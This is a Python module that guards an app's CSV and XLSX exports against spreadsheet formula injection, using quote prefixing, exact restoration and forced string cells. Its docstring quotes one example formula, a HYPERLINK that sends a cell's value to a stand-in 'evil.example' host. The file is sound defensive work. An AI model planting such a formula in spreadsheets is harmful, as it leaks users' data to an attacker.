"""Cells that a spreadsheet cannot run: the one guard of every CSV and XLSX the app writes.

Spreadsheet programs (Excel, LibreOffice, Google Sheets) treat a CSV cell that starts with
``=``, ``+``, ``-``, ``@``, a tab or a carriage return as a formula, and an XLSX cell stored
as a formula runs when the file is opened. Readers write impressions, anonymous visitors
choose the user names that reach the audit log: any of them could plant
``=HYPERLINK("http://evil.example/?"&A1, "open")`` in a statistician's spreadsheet.

CSV: :func:`neutralise_cell` prefixes such a text cell with a single quote (OWASP, "CSV
injection"), which spreadsheets show as text and do not evaluate. Numbers are never changed,
nor is text that is a plain decimal number (``-0.5``, ``+1``, ``-1e-3``, ``-inf``): a
spreadsheet reads those as numbers, not formulas, and ``pandas.read_csv`` returns the same
values. The quote is added to text that already starts with quotes followed by a trigger
too, so :func:`restore_cell` reverses it exactly (the bundle importer does: docs/bundle.md).

XLSX: :func:`xlsx_cell` / :func:`append_xlsx_row` store every text as a string cell, never a
formula, so the text is kept exactly (``pandas.read_excel`` reads it back unchanged).
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    import pandas as pd

#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
FORMULA_TRIGGERS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r")

_TRIGGER_CLASS = "[" + re.escape("".join(FORMULA_TRIGGERS)) + "]"
#: Text that gets the quote: triggers, possibly behind quotes (so the quote is reversible).
_NEEDS_QUOTE = re.compile(f"'*{_TRIGGER_CLASS}")
#: Text written by :func:`neutralise_cell` with a quote in front.
_QUOTED = re.compile(f"'(?='*{_TRIGGER_CLASS})")
#: Texts that openpyxl would store as error cells (openpyxl.cell.cell.ERROR_CODES).
_XLSX_ERROR_CODES = frozenset(("#NULL!", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#N/A"))
#: Text that spreadsheets and pandas read as a number: never altered.
_NUMBER = re.compile(
    r"[+-]?(?:(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?|inf|infinity|nan)",
    re.IGNORECASE,
)


def neutralise_text(text: str) -> str:
    """``text`` with a ``'`` in front if a spreadsheet would run it as a formula."""
    if _NEEDS_QUOTE.match(text) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def neutralise_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet evaluates: text as :func:`neutralise_text`, anything
    else (numbers, ``None``) unchanged."""
    return neutralise_text(value) if isinstance(value, str) else value


def restore_cell(text: str) -> str:
    """The text :func:`neutralise_text` was given (removes the quote it added)."""
    return _QUOTED.sub("", text, count=1) if text.startswith("'") else text


#: :data:`_QUOTED` for pandas / RE2 (no look-ahead): the quote, then group 1 to keep.
_QUOTED_GROUP = "^'('*" + _TRIGGER_CLASS + ")"


def restore_series(values: pd.Series) -> pd.Series:
    """:func:`restore_cell` of every text of a text column (vectorised)."""
    if not values.str.startswith("'").any():
        return values
    return values.str.replace(_QUOTED_GROUP, r"\1", n=1, regex=True)


def neutralise_series(values: pd.Series) -> pd.Series:
    """:func:`neutralise_cell` of every text in a column; numeric columns unchanged."""
    import pandas as pd

    if not (values.dtype == object or pd.api.types.is_string_dtype(values.dtype)):
        return values
    return values.map(neutralise_cell, na_action="ignore").astype(values.dtype)


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of ``frame`` with every text column and column name neutralised
    (:func:`neutralise_series`; a header such as a reader code is a cell too)."""
    out = frame.copy(deep=False)
    for name in out.columns:
        out[name] = neutralise_series(out[name])
    out.columns = [neutralise_cell(name) for name in out.columns]
    return out


def _bare_line_break(value: Any, lineterminator: str) -> bool:
    """``value`` holds a CR or LF that ``csv`` would not quote (only the characters of the
    line terminator make it quote): a spreadsheet would start a new row there."""
    return isinstance(value, str) and any(c in value and c not in lineterminator for c in "\r\n")


class SafeCsvWriter:
    """``csv.writer`` whose every text cell goes through :func:`neutralise_cell`.

    A row with a text holding a line break that ``csv`` would leave unquoted (a CR when lines
    end with LF) is written with every field quoted: unquoted, a spreadsheet starts a new row
    at the CR, and the rest of the cell (``=1+1``) would be a formula at the start of a cell.
    """

    def __init__(self, stream: Any, **options: Any) -> None:
        self._writer = csv.writer(stream, **options)
        self._quoted = csv.writer(stream, **{**options, "quoting": csv.QUOTE_ALL})
        self._lineterminator = self._writer.dialect.lineterminator

    def writerow(self, row: Iterable[Any]) -> Any:
        cells = [neutralise_cell(v) for v in row]
        if any(_bare_line_break(v, self._lineterminator) for v in cells):
            return self._quoted.writerow(cells)
        return self._writer.writerow(cells)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(stream: Any, **options: Any) -> SafeCsvWriter:
    """The CSV writer of every CSV export (``options`` as for :func:`csv.writer`)."""
    return SafeCsvWriter(stream, **options)


def frame_csv(frame: pd.DataFrame) -> bytes:
    """``frame`` as UTF-8 CSV (``pandas.DataFrame.to_csv``, LF line ends) with every text
    neutralised; text is quoted when a cell holds a CR (see :class:`SafeCsvWriter`)."""
    safe = neutralise_frame(frame)
    bare = any(
        _bare_line_break(v, "\n")
        for name in safe.columns
        if not _is_numeric(safe[name])
        for v in safe[name].dropna()
    )
    quoting = csv.QUOTE_NONNUMERIC if bare else csv.QUOTE_MINIMAL
    return safe.to_csv(index=False, lineterminator="\n", quoting=quoting).encode("utf-8")


def _is_numeric(values: pd.Series) -> bool:
    import pandas as pd

    return bool(pd.api.types.is_numeric_dtype(values.dtype))


def xlsx_cell(sheet: Any, value: Any) -> Any:
    """A cell for ``sheet.append`` (write-only or not): text as a string, never a formula.

    openpyxl stores text starting with ``=`` as a formula and the texts of Excel's error
    codes (``#N/A``) as errors; those become explicit string cells, any other value is
    returned as it is (openpyxl stores other text as a string already, and a cell object per
    value would make large workbooks much slower).
    """
    if not isinstance(value, str) or not (value.startswith("=") or value in _XLSX_ERROR_CODES):
        return value
    from openpyxl.cell import WriteOnlyCell

    cell = WriteOnlyCell(sheet, value=value)
    cell.data_type = "s"
    return cell


def append_xlsx_row(sheet: Any, values: Iterable[Any]) -> None:
    """``sheet.append(values)`` with every text stored as a string cell (:func:`xlsx_cell`)."""
    sheet.append([xlsx_cell(sheet, v) for v in values])
